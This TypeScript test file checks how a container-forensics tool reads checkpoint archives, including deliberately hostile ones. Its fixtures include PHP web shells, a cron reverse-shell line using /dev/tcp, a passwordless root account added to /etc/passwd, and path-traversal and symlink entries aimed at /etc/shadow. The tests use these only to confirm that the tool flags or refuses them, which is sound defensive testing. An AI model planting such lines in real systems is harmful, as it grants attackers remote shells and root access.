/**
 * Checkpoint archives crafted to be hostile: the rootfs diff is the pod's own writing, and
 * the archive itself may have been altered on the node. Every archive is built with
 * tar-stream and read through the same code the CLI uses.
 */
import { createHash } from 'node:crypto';
import { appendFile, lstat, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { triage } from '../../src/app/triage.js';
import {
  CheckpointRefused,
  openCheckpointArchive,
  walkRootfsDiff,
} from '../../src/sources/checkpoint/checkpoint-archive.js';
import { readCheckpointConfig } from '../../src/sources/checkpoint/checkpoint-records.js';
import {
  indexRootfsDiff,
  scanCheckpoint,
  MAX_RECORD_BYTES,
} from '../../src/sources/checkpoint/checkpoint-scan.js';
import { CheckpointSource } from '../../src/sources/checkpoint/checkpoint-source.js';
import { parseDeletedFiles } from '../../src/sources/checkpoint/deleted-files.js';
import { CHUNKINGS, makeTar, streamOf, type FixtureEntry } from '../support/tar-fixtures.js';

let work: string;
let n = 0;
beforeAll(async () => {
  work = await mkdtemp(path.join(os.tmpdir(), 'coroner-checkpoint-unit-'));
});
afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

const CONFIG = JSON.stringify({
  id: 'c0ffee'.repeat(10) + 'abcd',
  name: 'k8s_web_shop_default',
  rootfsImageName: 'shop/web:1',
  createdTime: '2026-12-01T10:00:00Z',
  checkpointedTime: '2026-12-03T09:00:00Z',
});

async function archiveOf(members: FixtureEntry[], gzip = false): Promise<string> {
  const file = path.join(work, `a${n++}.tar${gzip ? '.gz' : ''}`);
  const tar = await makeTar(members);
  await writeFile(file, gzip ? gzipSync(tar) : tar);
  return file;
}

async function checkpointWith(rootfs: FixtureEntry[], extra: FixtureEntry[] = []) {
  return archiveOf([
    { name: 'config.dump', content: CONFIG },
    { name: 'spec.dump', content: JSON.stringify({ process: { args: ['/start'] } }) },
    { name: 'rootfs-diff.tar', content: await makeTar(rootfs) },
    { name: 'checkpoint/pages-1.img', content: Buffer.alloc(4096, 1) },
    ...extra,
  ]);
}

describe('reading a checkpoint archive', () => {
  it('reads a well-formed archive the same whole, gzipped, and in odd chunks', async () => {
    const rootfs = await makeTar([
      { name: 'var/www/', type: 'directory' },
      { name: 'var/www/shell.php', content: '<?php system($_GET["c"]);' },
      { name: 'etc/.wh.motd', content: '' },
    ]);
    const members: FixtureEntry[] = [
      { name: 'config.dump', content: CONFIG },
      { name: 'rootfs-diff.tar', content: rootfs },
      { name: 'deleted.files', content: '["/etc/issue"]' },
      { name: 'checkpoint/', type: 'directory' },
      { name: 'checkpoint/core-1.img', content: 'x' },
    ];
    for (const gzip of [false, true]) {
      const archive = await openCheckpointArchive(await archiveOf(members, gzip));
      expect(archive.compression).toBe(gzip ? 'gzip' : 'none');
      const scan = await scanCheckpoint(archive);
      expect(scan.rootfs?.index.entries.get('/var/www/shell.php')).toBe('file');
      expect([...scan.rootfs!.index.whiteouts]).toEqual(['/etc/motd']);
      expect(scan.deletedFiles?.list.paths).toEqual(['/etc/issue']);
      expect(scan.members.find((m) => m.name === 'checkpoint/core-1.img')).toMatchObject({
        sizeBytes: 1,
        sha256: '2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881',
      });
    }
    for (const chunk of CHUNKINGS) {
      const index = await indexRootfsDiff(streamOf(rootfs, chunk), 100);
      expect([...index.index.entries.keys()]).toEqual(['/var/www', '/var/www/shell.php']);
    }
  });

  it('refuses other compressions by name, and what is not a tar', async () => {
    const zstd = path.join(work, 'z.tar.zst');
    await writeFile(zstd, Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0, 0, 0, 0]));
    await expect(openCheckpointArchive(zstd)).rejects.toThrow(/compressed with zstd/);
    const text = path.join(work, 'notes.txt');
    await writeFile(text, 'hello');
    await expect(openCheckpointArchive(text)).rejects.toThrow(/not a tar archive/);
    await expect(openCheckpointArchive(work)).rejects.toThrow(CheckpointRefused);
  });

  it('refuses an archive holding config.dump twice, or none', async () => {
    const twice = await archiveOf([
      { name: 'config.dump', content: CONFIG },
      { name: './config.dump', content: '{"id":"other"}' },
    ]);
    await expect(scanCheckpoint(await openCheckpointArchive(twice))).rejects.toThrow(
      /holds config.dump twice/,
    );
    const pod = await archiveOf([{ name: 'pod.dump', content: '{}' }]);
    await expect(scanCheckpoint(await openCheckpointArchive(pod))).rejects.toThrow(/a whole pod/);
  });

  it('does not read an oversized config.dump, and reads a malformed one as a problem', async () => {
    const big = await archiveOf([
      { name: 'config.dump', content: Buffer.alloc(MAX_RECORD_BYTES + 1, 0x20) },
    ]);
    await expect(scanCheckpoint(await openCheckpointArchive(big))).rejects.toThrow(
      /no readable config.dump/,
    );
    const bad = readCheckpointConfig(Buffer.from('{"id": 3, "name": ['), Buffer.from('[]'));
    expect(bad.problems).toEqual([
      expect.stringMatching(/^config.dump is not JSON/),
      'spec.dump is not a JSON object',
    ]);
    expect(bad.id).toBe('');
  });

  it('fails a truncated archive whose member claims a huge size, with what to do', async () => {
    const whole = await makeTar([{ name: 'config.dump', content: CONFIG }]);
    const header = Buffer.from(whole.subarray(0, 512));
    // 8 GiB in the size field, then nothing: the archive ends where the content should be.
    header.write('77777777777\0', 124, 'latin1');
    let sum = 0;
    header.fill(0x20, 148, 156);
    for (const b of header) sum += b;
    header.write(sum.toString(8).padStart(6, '0') + '\0 ', 148, 'latin1');
    const file = path.join(work, 'truncated.tar');
    await writeFile(file, header);
    await expect(scanCheckpoint(await openCheckpointArchive(file))).rejects.toThrow(
      /could not be read/,
    );
  });
});

describe('an archive changed between passes', () => {
  it('is refused on the next pass', async () => {
    const file = await checkpointWith([{ name: 'a', content: 'x' }]);
    const archive = await openCheckpointArchive(file);
    await scanCheckpoint(archive);
    await appendFile(file, Buffer.alloc(512));
    await expect(walkRootfsDiff(archive, async (e) => void e.resume())).rejects.toThrow(
      /changed while coroner read it/,
    );
  });
});

describe('a hostile rootfs diff', () => {
  it('refuses names that climb and second entries, keeps links as links, bounds the entries', async () => {
    const tar = await makeTar([
      { name: '../../etc/cron.d/evil', content: 'x' },
      { name: 'app/a', content: 'first' },
      { name: 'app/a', content: 'second' },
      { name: 'app/shadow', type: 'symlink', linkname: '/etc/shadow' },
      { name: 'app/hard', type: 'link', linkname: '../../../etc/passwd' },
      { name: 'dev/evil', type: 'character-device', devmajor: 1, devminor: 3 },
    ]);
    const index = await indexRootfsDiff(streamOf(tar), 1000);
    expect(index.refused).toEqual([
      'entry name climbs out of the root: "../../etc/cron.d/evil"',
      'a second entry for "/app/a" (the first is kept)',
    ]);
    expect(Object.fromEntries(index.index.entries)).toMatchObject({
      '/app/a': 'file',
      '/app/shadow': 'symlink',
      '/app/hard': 'hardlink',
      '/dev/evil': 'char-device',
    });
    const many = await makeTar(
      Array.from({ length: 500 }, (_, i) => ({ name: `f${i}`, content: '' })),
    );
    const cut = await indexRootfsDiff(streamOf(many), 100);
    expect(cut).toMatchObject({ entryCount: 500, isCut: true });
    expect(cut.index.entries.size).toBe(100);
  });

  it('triages it without extracting anything or following a link, storing the first of two entries', async () => {
    const archive = await checkpointWith(
      [
        { name: 'var/www/', type: 'directory' },
        { name: 'var/www/a.php', content: '<?php eval($_POST["x"]);' },
        { name: 'var/www/a.php', content: 'second copy' },
        { name: '../../../../tmp/escaped', content: 'x' },
        { name: 'var/www/link', type: 'symlink', linkname: '../../../../../etc/shadow' },
        { name: '/etc/cron.d/job', content: '* * * * * root sh -i >& /dev/tcp/10.0.0.1/4444 0>&1' },
      ],
      [{ name: 'deleted.files', content: '["/etc/motd", "../../x", "relative"]' }],
    );
    const caseDir = path.join(work, 'case-hostile');
    const source = await CheckpointSource.open(archive);
    const [only] = await source.listContainers();
    const done = await triage(source, only!.id, { caseDir, cacheDir: path.join(work, 'cache') });
    const paths = [...done.changes].map((c) => c.path);
    expect(paths).toEqual(expect.arrayContaining(['/var/www/a.php', '/var/www/link', '/etc/motd']));
    expect(paths).not.toContain('/tmp/escaped');
    // An absolute name is the container path it names, stored in the case like any other.
    expect(
      [...done.changes].find((c) => c.path === '/etc/cron.d/job')?.current?.content?.path,
    ).toMatch(/^current\//);
    await expect(lstat('/etc/cron.d/job')).rejects.toThrow();
    const shell = [...done.changes].find((c) => c.path === '/var/www/a.php')!;
    expect(shell.severity).toBe('critical');
    const link = [...done.changes].find((c) => c.path === '/var/www/link')!;
    expect(link.current?.meta).toMatchObject({
      type: 'symlink',
      linkTarget: '../../../../../etc/shadow',
    });
    expect(done.problems.map((p) => p.cause).join('\n')).toMatch(/climbs out of the root/);
    expect(done.problems.map((p) => p.cause).join('\n')).toMatch(/"\.\.\/\.\.\/x"/);
    await expect(lstat('/tmp/escaped')).rejects.toThrow();
    // Only the case's own folders: nothing named after the archive's entries.
    expect((await readdir(caseDir)).sort()).toEqual(
      expect.arrayContaining(['checkpoint', 'container', 'current']),
    );
    expect(await readdir(caseDir)).not.toContain('var');
  });
});

describe('deleted.files', () => {
  it('reads paths one at a time, bounded, and says when it is not a list', () => {
    expect(parseDeletedFiles(Buffer.from(' ["/a", "/b\\"c"] '), 10)).toEqual({
      paths: ['/a', '/b"c'],
    });
    expect(parseDeletedFiles(Buffer.from('null'), 10)).toEqual({ paths: [] });
    expect(parseDeletedFiles(Buffer.from('{"a":1}'), 10).problem).toMatch(/not a JSON list/);
    expect(parseDeletedFiles(Buffer.from('["/a", 3]'), 10).problem).toMatch(/not a string/);
    expect(parseDeletedFiles(Buffer.from('["/a'), 10).problem).toMatch(/ends inside a string/);
    // Ten million paths would be 40 MB here; two million show the bound and its cost.
    const many = Buffer.from('[' + Array.from({ length: 2_000_000 }, () => '"/a"').join(',') + ']');
    const read = parseDeletedFiles(many, 1_000_000);
    expect(read.paths.length).toBe(1_000_000);
    expect(read.problem).toMatch(/more than 1000000 paths/);
    // The timeout guards against a run without end (a reader quadratic in its input); it is
    // no speed goal: read once, this takes well under a second.
  }, 30_000);
});

describe('originals from an OCI image layout archive', () => {
  const sha = (data: Buffer | string) => createHash('sha256').update(data).digest('hex');

  /** An OCI layout of one gzipped layer, named shop/web:1; its config digest is the image id. */
  async function ociImage(): Promise<{ file: string; imageId: string }> {
    const layer = await makeTar([
      { name: 'etc/', type: 'directory' },
      { name: 'etc/motd', content: 'welcome\n' },
      { name: 'etc/passwd', content: 'root:x:0:0:root:/root:/bin/sh\n' },
    ]);
    const blob = gzipSync(layer);
    const config = Buffer.from(
      JSON.stringify({
        architecture: 'amd64',
        os: 'linux',
        rootfs: { type: 'layers', diff_ids: [`sha256:${sha(layer)}`] },
        history: [{ created_by: 'COPY etc /etc' }],
      }),
    );
    const manifest = Buffer.from(
      JSON.stringify({
        schemaVersion: 2,
        mediaType: 'application/vnd.oci.image.manifest.v1+json',
        config: {
          mediaType: 'application/vnd.oci.image.config.v1+json',
          digest: `sha256:${sha(config)}`,
          size: config.length,
        },
        layers: [
          {
            mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip',
            digest: `sha256:${sha(blob)}`,
            size: blob.length,
          },
        ],
      }),
    );
    const index = JSON.stringify({
      schemaVersion: 2,
      manifests: [
        {
          mediaType: 'application/vnd.oci.image.manifest.v1+json',
          digest: `sha256:${sha(manifest)}`,
          size: manifest.length,
          annotations: { 'org.opencontainers.image.ref.name': 'docker.io/shop/web:1' },
        },
      ],
    });
    const file = await archiveOf([
      { name: 'oci-layout', content: '{"imageLayoutVersion":"1.0.0"}' },
      { name: 'index.json', content: index },
      { name: `blobs/sha256/${sha(manifest)}`, content: manifest },
      { name: `blobs/sha256/${sha(config)}`, content: config },
      { name: `blobs/sha256/${sha(blob)}`, content: blob },
    ]);
    return { file, imageId: `sha256:${sha(config)}` };
  }

  it('compares changed and deleted files with the layer that provided them', async () => {
    const image = await ociImage();
    const rootfs = await makeTar([
      { name: 'etc/passwd', content: 'root:x:0:0:root:/root:/bin/sh\nevil::0:0::/:/bin/sh\n' },
      { name: 'var/www/shell.php', content: '<?php system($_GET["c"]);' },
    ]);
    const archive = await archiveOf(
      [
        {
          name: 'config.dump',
          content: JSON.stringify({
            id: 'feed'.repeat(16),
            name: 'web',
            rootfsImageName: 'shop/web:1',
            rootfsImageRef: image.imageId,
          }),
        },
        { name: 'rootfs-diff.tar', content: rootfs },
        { name: 'deleted.files', content: '["/etc/motd"]' },
      ],
      true,
    );
    const source = await CheckpointSource.open(archive, { archive: image.file });
    const report = await triage(source, 'web', {
      caseDir: path.join(work, 'case-oci'),
      cacheDir: path.join(work, 'cache'),
    });
    const byPath = new Map([...report.changes].map((c) => [c.path, c]));
    expect(byPath.get('/etc/passwd')).toMatchObject({
      kind: 'C',
      original: {
        content: { sha256: sha('root:x:0:0:root:/root:/bin/sh\n') },
        layer: { position: 0, createdBy: 'COPY etc /etc' },
      },
    });
    expect(byPath.get('/etc/motd')).toMatchObject({
      kind: 'D',
      original: { content: { sha256: sha('welcome\n') } },
    });
    expect(byPath.get('/var/www/shell.php')?.kind).toBe('A');
    expect(report.container.imageId).toBe(image.imageId);
    expect(report.layers.checks?.map((c) => c.status)).toEqual(['verified']);
    expect(report.problems).toEqual([]);
  });
});
